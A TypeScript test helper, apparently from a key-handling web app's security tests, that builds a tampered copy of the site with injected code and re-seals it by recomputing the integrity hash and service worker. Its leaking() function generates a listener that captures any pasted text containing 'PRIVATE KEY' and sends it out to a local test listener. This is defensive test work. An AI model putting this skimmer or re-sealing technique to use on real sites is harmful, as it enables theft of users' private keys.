import { createHash } from 'node:crypto'
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { tags } from '../scripts/page.mjs'
import { site } from '../scripts/serve.mjs'
import { writeWorker } from '../scripts/worker.mjs'
import type { Leak } from './leaks'
import { type Listener, start } from './listener'

/** A build of the site with added code, on a server of its own. */
export interface MutantSite {
  origin: string
  close(): Promise<void>
}

/** Pages that no leak needs. Leaving them out makes the copy faster. */
const LEFT_OUT = /^out\/(?:causes|security|licenses)(?:\/|$)/

/**
 * Serves the built page with further code in one of its own scripts. The page is sealed again as if it had been built
 * that way: the page and its policy have the new hash of the script, and the service worker is generated again.
 */
export async function mutantSite(code: string): Promise<MutantSite> {
  const folder = mkdtempSync(join(tmpdir(), 'assay-mutant-'))
  cpSync('out', folder, { recursive: true, filter: (file) => !LEFT_OUT.test(file) })
  const page = join(folder, 'index.html')
  const html = readFileSync(page, 'utf8')
  const script = tags(html).findLast(
    ({ name, attributes }) => name === 'script' && attributes.src && attributes.type !== 'part',
  )
  const { src = '', integrity = '' } = script?.attributes ?? {}
  if (!integrity) throw new Error('The site is not sealed')
  const changed = `${readFileSync(join(folder, src), 'utf8')}\n;${code}\n`
  writeFileSync(join(folder, src), changed)
  const hash = `sha256-${createHash('sha256').update(changed).digest('base64')}`
  writeFileSync(page, html.replaceAll(integrity, hash))
  await writeWorker(folder)
  const { port, close } = await start(site(folder))
  return {
    origin: `http://localhost:${port}`,
    async close() {
      await close()
      rmSync(folder, { recursive: true })
    },
  }
}

/** The code of a build that leaks every pasted key in all of these ways. */
export function leaking(leaks: Readonly<Record<string, Leak>>, listener: Listener): string {
  const calls = Object.entries(leaks).map(
    ([name, { leak }]) => `(${leak})(value, ${JSON.stringify({ ...listener.target(name), name })})`,
  )
  return `addEventListener('input', ({ target: { value } }) => {
    if (!value.includes('PRIVATE KEY')) return
    for (const leak of [${calls.map((call) => `async () => ${call}`)}]) leak().catch(() => {})
  }, true)`
}
